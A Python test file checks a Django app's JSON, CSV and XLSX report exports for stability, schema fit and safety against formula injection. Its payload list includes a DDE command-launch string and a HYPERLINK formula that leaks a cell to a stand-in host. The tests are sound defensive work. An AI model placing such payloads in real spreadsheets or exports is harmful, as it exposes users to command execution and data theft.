"""The JSON, CSV and XLSX copies of a report: what they hold, and that nothing in them is run."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from datetime import UTC, datetime
from io import StringIO
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from openpyxl import load_workbook
from referencing import Registry, Resource

from assessments.edition import flow
from recommendations.reports import filled, services
from recommendations.reports.exports import csv_file, json_file, table
from tests.assessments.small import SMALL
from tests.factories import (
    choose,
    hold,
    make_assessment,
    make_edition,
    save,
    shipped_edition,
    whole,
)
from tests.recommendations import golden
from tests.recommendations.exported import KINDS, READERS, rows_of, sound, stored, told_with
from tests.recommendations.profiles_at_random import filled as filled_at_random

ROOT = Path(__file__).parents[2]
GIVEN_AT = datetime(2026, 10, 14, 9, 30, tzinfo=UTC)
SCHEMA = ROOT / "recommendations" / "data" / "report.schema.json"
# What a spreadsheet would calculate, fetch or start, plain and in disguise.
PAYLOADS = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u22121",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?leak="&A1,"Click")',
    "'=1+1",
    "''=1+1",
    "plain;=1+1",
    "one\n=1+1",
    "one\t@SUM(1)",
)
BLANKS = " \u00a0\u200b\ufeff"
SIGNS = tuple("=+-@＝＋－＠\u2212")
ODD = (
    "שלום עולם",
    "\u202eabc",
    "👩\u200d💻 🚀",
    "é e\u0301",
    'a,b"c"\nd;e',
    "_x0041_ _x005F_",
    "#N/A",
    "TRUE",
    "007",
    "'tis",
)


# What they hold


@pytest.mark.parametrize("name", ["report.json", "report.csv", "report.xlsx.json"])
def test_a_small_report_is_written_as_it_always_was(name):
    assert golden.golden()[name] == (golden.FOLDER / name).read_bytes()


@pytest.mark.parametrize("kind", KINDS)
def test_the_same_report_gives_the_same_bytes(kind):
    assert golden.copies()[kind] == golden.copies()[kind]


def test_a_workbook_holds_no_time_but_that_of_its_report():
    with zipfile.ZipFile(io.BytesIO(sound()["xlsx"])) as packed:
        times = {one.date_time for one in packed.infolist()}
        about = packed.read("docProps/core.xml").decode()

    assert times == {(1980, 1, 1, 0, 0, 0)}
    assert about.count("2026-10-14T09:30:00Z") == 2


def validator():
    answers = json.loads(filled.SCHEMA.read_text("utf-8"))
    registry = Registry().with_resource("answers.schema.json", Resource.from_contents(answers))
    return Draft202012Validator(json.loads(SCHEMA.read_text("utf-8")), registry=registry)


@pytest.mark.parametrize("seed", range(4))
def test_json_fits_its_published_schema(seed):
    edition = shipped_edition()
    functions, answers = filled_at_random(edition, seed)
    given = services.recommend_for(edition, functions, answers, organisation="Acme", notes={"growth": "?"}, profiles={})
    content = services.content_of(given, reference="SF-1A2B-3C4D", given_at=GIVEN_AT)

    file = json_file.render(json.loads(services.canonical(content)), "0" * 64)

    assert [error.message for error in validator().iter_errors(json.loads(file))] == []


def test_the_schema_refuses_what_is_missing_added_or_of_another_kind():
    bad = [json.loads(sound()["json"]) for _number in range(4)]
    del bad[0]["result"]["mix"]["label"]
    bad[1]["text"]["more"] = ""
    bad[2]["result"]["overall"]["fits"][0]["score"] = "70"
    bad[3]["answers"]["functions"] = []

    assert list(validator().iter_errors(json.loads(sound()["json"]))) == []
    assert [len(list(validator().iter_errors(one))) for one in bad] == [1, 1, 1, 1]


def test_json_holds_all_that_was_frozen():
    told = golden.told()

    document = json.loads(sound()["json"])

    about = {key: value for key, value in document["report"].items() if key != "checksum"}
    inputs = {**document["answers"], "notes": document["notes"]}
    content = {**about, "inputs": inputs, "result": document["result"], "page": document["text"]}
    assert content == told
    assert golden.checksum_of(content) == document["report"]["checksum"]


def test_the_points_of_a_score_add_up_to_it():
    content = golden.told()
    rows = rows_of(sound()["csv"])
    scores = {(one["function"], "bpo"): int(one["bpo"]) for one in rows if one["section"] == "functions"}
    scores["", "bpo"] = next(int(one["value"]) for one in rows if one["key"] == "score.bpo")

    sums = dict.fromkeys(scores, 50.0)
    for row in rows:
        if row["section"] == "contributions" and row["model"] == "bpo":
            sums[row["function"], "bpo"] += float(row["points"])

    assert {place: round(value, 1) for place, value in sums.items()} == scores
    assert len(scores) == 1 + len(content["result"]["functions"])


def test_every_answer_and_note_has_its_row():
    content = golden.told()
    rows = [row for row in rows_of(sound()["csv"]) if row["section"] == "answers"]

    answers = {(row["function"], row["key"]): row["answer"] for row in rows if row["answer"]}
    notes = {(row["function_name"], row["key"]): stored(row["note"]) for row in rows if row["note"]}

    inputs = content["inputs"]
    assert answers == {("", key): answer for key, answer in inputs["answers"].items()} | {
        (key, question): answer
        for key, function in zip(("payroll", "own_1"), inputs["functions"], strict=True)
        for question, answer in function["answers"].items()
    }
    assert notes == {
        ("The organisation", "load"): inputs["notes"]["load"],
        ("All functions", "method"): inputs["notes"]["method"],
    }


def test_csv_is_what_the_rfc_says():
    file = sound()["csv"]
    text = file.decode("utf-8-sig")

    assert file.startswith(b"\xef\xbb\xbfsection,")
    assert text.endswith("\r\n")
    assert {len(row) for row in csv.reader(StringIO(text, newline=""), strict=True)} == {len(csv_file.COLUMNS)}


# The same scores elsewhere


def test_the_answers_of_a_download_give_the_same_result_on_another_database(client, db, prepared_site):
    assessment = make_assessment(
        make_edition(shipped_edition()), token=hold(client), functions=("payroll", "tax_planning")
    )
    choose(assessment, "payroll", "own_1", "tax_planning")
    save(assessment, {**whole(assessment), ("", "growth"): "dont_know"}, notes={"repetitive_load": "Mondays"})
    report = services.submit(assessment=assessment)
    document = json.loads(client.get(reverse("recommendations:json", args=(report.pk,))).content)
    environment = os.environ | {"SOURCEFIT_VAR": str(prepared_site), "SOURCEFIT_ENV": "embedded"}
    environment.pop("DATABASE_URL", None)

    command = [sys.executable, str(ROOT / "manage.py"), "recommend", "-", "--json", "-v0"]
    answers = json.dumps(document["answers"]).encode()
    again = json.loads(
        subprocess.run(command, input=answers, check=True, cwd=ROOT, env=environment, capture_output=True).stdout
    )

    assert again["result"] == document["result"]
    assert again["inputs"] == {**document["answers"], "notes": {}}


# What is run: nothing


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_begins_a_formula(payload):
    file = golden.copies(told_with(organisation=payload, function=payload, note=payload))["csv"]

    cells = [cell for row in rows_of(file) for column, cell in row.items() if column != "points"]

    assert payload in [stored(cell) for cell in cells]
    # Some spreadsheets split a cell at a semicolon, a tab or a line's end, quoted or not.
    pieces = [piece.lstrip(BLANKS) for cell in cells for piece in re.split(r"[;\t\r\n]", cell)]
    assert [piece for piece in pieces if piece.startswith(SIGNS)] == []
    assert [cell for cell in cells if cell.lstrip(BLANKS).startswith(("\t", "\r", "\n", "\0"))] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_workbook_is_a_formula(payload):
    file = golden.copies(told_with(organisation=payload, function=payload, note=payload))["xlsx"]
    cells = [cell for sheet in load_workbook(io.BytesIO(file)).worksheets for row in sheet.iter_rows() for cell in row]

    assert payload in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert {cell.quotePrefix for cell in cells if cell.value == payload} == {not payload[0].isalnum()}
    with zipfile.ZipFile(io.BytesIO(file)) as packed:
        assert [name for name in packed.namelist() if b"<f>" in packed.read(name)] == []


@pytest.mark.parametrize("text", [*PAYLOADS, *ODD])
@pytest.mark.parametrize("kind", KINDS)
def test_odd_text_is_read_back_as_it_was(kind, text):
    content = told_with(organisation=text, function=text, note=text)
    opened = READERS[kind](golden.copies(content)[kind])
    texts = {cell for rows in opened.values() for row in rows for cell in row}

    assert (json.dumps(text, ensure_ascii=False) if kind == "json" else text) in texts


@given(st.text(st.characters(codec="utf-8") | st.sampled_from("'=+-@;\t\r\n \u00a0＝")))
def test_an_apostrophe_that_was_put_there_is_taken_away_and_no_other(text):
    safe = csv_file.safe(text)

    assert stored(safe) == text
    assert safe.lstrip(" \u00a0")[:1] not in tuple("=+-@＝\t\r\n") or not safe.strip(" \u00a0")


def test_a_number_below_nought_stays_a_number():
    points = [row["points"] for row in rows_of(sound()["csv"]) if row["points"]]
    sheet = load_workbook(io.BytesIO(sound()["xlsx"]))["contributions"]

    assert min(float(one) for one in points) == -36.9
    assert min(float(str(row[-2].value)) for row in sheet.iter_rows(min_row=2)) == -36.9


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_a_file_can_not_hold_is_replaced_by_a_sign_and_seen(kind):
    opened = READERS[kind](golden.copies(told_with(note="a\x00b\x1bc\ud800d\ufffee\rf"))[kind])

    assert "a\ufffdb\ufffdc\ufffdd\ufffde\nf" in [cell for row in opened["answers"] for cell in row]


def test_a_note_of_ten_thousand_characters_is_whole():
    note = "wörd; " * 1700

    for kind in ("csv", "xlsx"):
        opened = READERS[kind](golden.copies(told_with(note=note))[kind])
        assert note in [cell for row in opened["answers"] for cell in row]


def test_the_columns_of_every_table_have_a_heading():
    made = table.tables(golden.told(), "0" * 64, SMALL)

    assert [len(set(table.headings(one))) for one in made] == [len(one.columns) for one in made]
    assert flow.DONT_KNOW in [row[5] for row in made[3].rows]
